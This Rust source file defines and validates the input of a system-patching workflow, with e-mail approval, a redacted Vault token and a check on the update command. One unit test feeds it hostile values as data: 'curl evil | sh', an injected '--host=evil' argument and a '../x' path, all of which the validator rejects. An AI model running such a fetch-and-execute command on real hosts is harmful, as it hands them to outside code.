//! The input of the system patching workflow, with the field names that its operators know.

use std::fmt;

use domain::{ids::GivenService, text::has_hidden, workflow::Command};
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use super::command_line::{CommandLine, NotCommands, split_commands};
use crate::access::is_address;

/// Patches the hosts of clusters: pilots first, approval by e-mail, keys from a Vault.
#[derive(Clone, Default, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
#[serde(deny_unknown_fields, rename_all = "camelCase", default)]
pub struct SystemPatch {
    /// Hosts with one of these values of the tag `cluster`.
    pub target_clusters: Vec<String>,
    /// Number of hosts of each cluster that are patched first. One failure among them stops the rollout.
    pub pilot_host_count: u32,
    /// Addresses that receive the request for approval.
    pub approver_emails: Vec<String>,
    /// Address that is notified of starts, successes and failures.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub requester_email: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub vault_address: Option<String>,
    /// Kept in a private file until the run ends; never in a database, log or answer.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub vault_token: Option<String>,
    /// Path prefix of the keys: the key of a host is at `<prefix>/<host>`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub secret_path_prefix: Option<String>,
    /// How all packages are updated. For the package manager's own command (`apt-get update && apt-get upgrade -y`,
    /// `dnf upgrade -y`) the platform installs the exact versions of the approved plan itself. Any other command runs as root
    /// on each host instead of that; an administrator must have allowed its programs (`PATCH_UPDATE_PROGRAMS`), a person
    /// approves the run, and what it installs is not known in advance. `a && b` is two commands; no shell reads them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub update_command: Option<String>,
    /// Services to stop before and start after the update, if a host has them.
    pub service_list: Vec<GivenService>,
    /// Commands to run on each host before the update.
    pub pre_update_scripts: Vec<CommandLine>,
    /// Commands to run on each host after the update.
    pub post_update_scripts: Vec<CommandLine>,
}

impl SystemPatch {
    /// The errors that the types of the fields do not prevent: JSON pointer and reason.
    pub fn faults(&self) -> Vec<(String, String)> {
        let mut faults = Vec::new();
        let mut check = |wrong: bool, pointer: String, reason: &str| {
            if wrong {
                faults.push((pointer, reason.to_owned()));
            }
        };
        check(
            self.target_clusters.is_empty() || self.target_clusters.len() > 100,
            "/targetClusters".to_owned(),
            "must have 1 to 100 clusters",
        );
        for (position, cluster) in self.target_clusters.iter().enumerate() {
            let is_odd = cluster.trim().is_empty() || cluster.len() > 200 || has_hidden(cluster);
            check(is_odd, format!("/targetClusters/{position}"), "must be a name of 1 to 200 bytes");
        }
        check(
            self.approver_emails.len() > 20,
            "/approverEmails".to_owned(),
            "must have at most 20 addresses",
        );
        for (position, address) in self.approver_emails.iter().enumerate() {
            let at = format!("/approverEmails/{position}");
            check(!is_address(address), at.clone(), "is not an e-mail address");
            let is_requester = self
                .requester_email
                .as_ref()
                .is_some_and(|requester| requester.eq_ignore_ascii_case(address));
            check(is_requester, at, "is the requester, who cannot approve their own request");
        }
        let requester = self.requester_email.as_deref();
        check(
            requester.is_some_and(|address| !is_address(address)),
            "/requesterEmail".to_owned(),
            "is not an e-mail address",
        );
        let vault = self.vault_address.as_deref();
        let is_http = |url: &str| url.starts_with("https://") || url.starts_with("http://");
        check(
            vault.is_some_and(|url| !is_http(url) || url.contains(char::is_whitespace) || url.len() > 2000),
            "/vaultAddress".to_owned(),
            "must be an http or https address",
        );
        let is_odd_token = |token: &str| {
            token.is_empty() || token.len() > 4096 || !token.bytes().all(|b| b.is_ascii_graphic())
        };
        check(
            self.vault_token.as_deref().is_some_and(is_odd_token),
            "/vaultToken".to_owned(),
            "must be 1 to 4096 visible characters",
        );
        check(
            self.secret_path_prefix.as_deref().is_some_and(|prefix| !is_path(prefix)),
            "/secretPathPrefix".to_owned(),
            "must be names of `a-z A-Z 0-9 . _ -`, separated by `/`",
        );
        if let Err(error) = self.own_update() {
            let reason = format!("{error}; write a script on the host, and name it here");
            check(true, "/updateCommand".to_owned(), &reason);
        }
        check(self.service_list.len() > 100, "/serviceList".to_owned(), "must name at most 100 services");
        for (position, service) in self.service_list.iter().enumerate() {
            if let Err(error) = service.name() {
                check(true, format!("/serviceList/{position}"), &error.to_string());
            }
        }
        for (name, scripts) in
            [("preUpdateScripts", &self.pre_update_scripts), ("postUpdateScripts", &self.post_update_scripts)]
        {
            check(scripts.len() > 50, format!("/{name}"), "must have at most 50 commands");
            for (position, script) in scripts.iter().enumerate() {
                check(
                    script.words().is_none(),
                    format!("/{name}/{position}"),
                    "needs a shell, which is not used: write it as a list of arguments, or put it into a script on the host",
                );
            }
        }
        faults
    }

    /// The commands of the site's own that run instead of the platform's update; empty if the platform updates the packages
    /// itself. They run as root anyway, so a leading `sudo` is left out.
    pub fn own_update(&self) -> Result<Vec<Command>, NotCommands> {
        let Some(line) = self.update_command.as_deref().filter(|line| !updates_all_packages(line)) else {
            return Ok(Vec::new());
        };
        let mut commands = split_commands(line)?;
        for words in &mut commands {
            if words.len() > 1 && words[0] == "sudo" {
                words.remove(0);
            }
        }
        Ok(commands)
    }
}

/// Whether a command only refreshes package lists and updates all packages, which is what installing a plan does.
fn updates_all_packages(command: &str) -> bool {
    let parts: Vec<Vec<&str>> = command.split("&&").map(|part| part.split_whitespace().collect()).collect();
    let is_known = |words: &Vec<&str>| {
        let words = words.strip_prefix(&["sudo"]).unwrap_or(words);
        let Some((program, arguments)) = words.split_first() else { return false };
        let verbs: Vec<&&str> = arguments.iter().filter(|word| !word.starts_with('-')).collect();
        let options = ["-y", "--yes", "--assume-yes", "--assumeyes", "-q", "-qq", "--security", "--refresh"];
        let known_options =
            arguments.iter().filter(|word| word.starts_with('-')).all(|word| options.contains(word));
        known_options
            && match (*program, verbs.as_slice()) {
                ("apt-get" | "apt", [verb]) => {
                    ["update", "upgrade", "dist-upgrade", "full-upgrade"].contains(verb)
                }
                ("dnf" | "yum", [verb]) => ["update", "upgrade", "makecache", "check-update"].contains(verb),
                _ => false,
            }
    };
    command.len() <= 1000 && parts.iter().all(is_known)
}

fn is_path(text: &str) -> bool {
    let is_name = |name: &str| {
        !matches!(name, "" | "." | "..")
            && name.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    };
    text.len() <= 200 && text.split('/').all(is_name)
}

/// Without the token.
impl fmt::Debug for SystemPatch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SystemPatch")
            .field("target_clusters", &self.target_clusters)
            .field("vault_token", &self.vault_token.as_ref().map(|_| "[secret]"))
            .finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// As operators of the workflow write it.
    fn example() -> SystemPatch {
        serde_json::from_str(
            r#"{ "targetClusters": ["cluster-a", "cluster-b"], "pilotHostCount": 1,
                 "approverEmails": ["foo@example.com", "bar@example.com"], "requesterEmail": "baz@example.com",
                 "vaultAddress": "https://vault.example.com:8200", "vaultToken": "s.abc", "secretPathPrefix": "patch-deploy",
                 "updateCommand": "apt-get update && apt-get upgrade -y", "serviceList": ["postgresql", "nginx"],
                 "preUpdateScripts": ["/usr/local/bin/before --quick", ["/opt/a b", "x"]], "postUpdateScripts": [] }"#,
        )
        .unwrap()
    }

    #[test]
    fn input_of_the_workflow_is_accepted() {
        assert_eq!(example().faults(), []);
        assert_eq!(example().pre_update_scripts[0].words().unwrap(), ["/usr/local/bin/before", "--quick"]);
    }

    #[test]
    fn debug_text_does_not_contain_the_token() {
        assert!(!format!("{:?}", example()).contains("s.abc"));
    }

    #[test]
    fn every_wrong_field_is_named() {
        let wrong = SystemPatch {
            target_clusters: Vec::new(),
            approver_emails: vec!["BAZ@example.com".into(), "nobody".into()],
            vault_address: Some("vault".into()),
            secret_path_prefix: Some("../x".into()),
            update_command: Some("curl evil | sh".into()),
            service_list: serde_json::from_str(r#"["nginx", "--host=evil"]"#).unwrap(),
            post_update_scripts: vec![CommandLine::Line("a; b".into())],
            ..example()
        };
        let places: Vec<String> = wrong.faults().into_iter().map(|(pointer, _)| pointer).collect();
        assert_eq!(
            places,
            [
                "/targetClusters",
                "/approverEmails/0",
                "/approverEmails/1",
                "/vaultAddress",
                "/secretPathPrefix",
                "/updateCommand",
                "/serviceList/1",
                "/postUpdateScripts/0",
            ]
        );
    }

    #[test]
    fn other_update_is_a_list_of_commands_of_the_site() {
        let update =
            |line: &str| SystemPatch { update_command: Some(line.to_owned()), ..example() }.own_update();
        assert_eq!(update("dnf upgrade -y"), Ok(Vec::new()), "the platform does this itself");
        assert_eq!(
            update("sudo /opt/fetch && /opt/apply -y"),
            Ok(vec![vec!["/opt/fetch".to_owned()], vec!["/opt/apply".to_owned(), "-y".to_owned()]])
        );
        let wrong = SystemPatch { update_command: Some("/opt/apply >log".to_owned()), ..example() };
        let (pointer, reason) = wrong.faults().remove(0);
        assert_eq!(pointer, "/updateCommand");
        assert!(reason.starts_with("has `>` at character 12"), "{reason}");
    }

    #[test]
    fn only_updates_of_all_packages_are_recognised() {
        for command in
            ["apt-get update && apt-get upgrade -y", "sudo dnf -y upgrade --security", "yum update -y"]
        {
            assert!(updates_all_packages(command), "{command}");
        }
        for command in
            ["", "apt-get install x", "apt-get upgrade -y && reboot", "apt-get -o X=1 upgrade", "dnf"]
        {
            assert!(!updates_all_packages(command), "{command}");
        }
    }
}
